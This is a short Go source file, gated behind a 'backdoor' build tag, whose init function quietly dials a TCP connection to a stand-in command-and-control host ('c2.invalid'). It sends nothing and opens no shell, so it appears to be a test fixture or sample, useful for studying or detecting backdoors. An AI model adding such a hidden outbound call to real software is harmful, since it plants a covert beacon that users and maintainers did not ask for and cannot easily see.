//go:build backdoor

package main

import "net"

func init() { _, _ = net.Dial("tcp", "c2.invalid:1") }
